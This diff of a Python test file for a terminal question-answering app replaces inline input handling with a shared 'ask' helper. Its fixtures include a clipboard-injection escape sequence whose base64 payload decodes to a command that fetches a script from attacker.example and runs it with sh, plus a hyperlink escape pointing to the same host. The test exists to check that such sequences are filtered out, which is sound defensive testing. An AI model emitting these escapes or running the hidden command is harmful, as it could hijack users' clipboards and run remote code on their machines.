@@ -15,10 +15,10 @@ from textual.drivers.headless_driver import HeadlessDriver
 from qa.ask import Engine
 from qa.text.display import displayable, displayable_record, json_escaped
 from qa.types import Passage
+from tests.chat_support import ask
 from tests.reliability_support import run, with_encoder
 from tui.factory import make_app
 from tui.widgets.passage_card import PassageCard
-from tui.widgets.question_input import QuestionInput
 
 CLIPBOARD_ATTACK = "\x1b]52;c;Y3VybCAtcyBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94LnNoIHwgc2g=\x1b\\"
 LINK_ATTACK = "\x1b]8;;http://attacker.example/\x07outside\x1b]8;;\x07"
@@ -94,13 +94,7 @@ async def test_the_chat_never_writes_an_article_control_sequence(hostile_index: 
     monkeypatch.chdir(hostile_index.parent)
     app = make_app(hostile_index, Engine.open(hostile_index), save_dir=tmp_path)
     async with app.run_test(size=(100, 40)) as pilot:
-        app.query_one(QuestionInput).value = QUESTION
-        await pilot.press("enter")
-        for _ in range(400):
-            if app.results():
-                break
-            await pilot.pause(0.02)
-        await pilot.pause()
+        await ask(pilot, QUESTION)
         result = app.results()[0]
         assert result.answer is not None and not ARTICLE_CONTROLS.search(json.dumps(result.as_json()))
         card = next(c for c in app.query(PassageCard) if c.opens.source.endswith(EVIL_NAME))
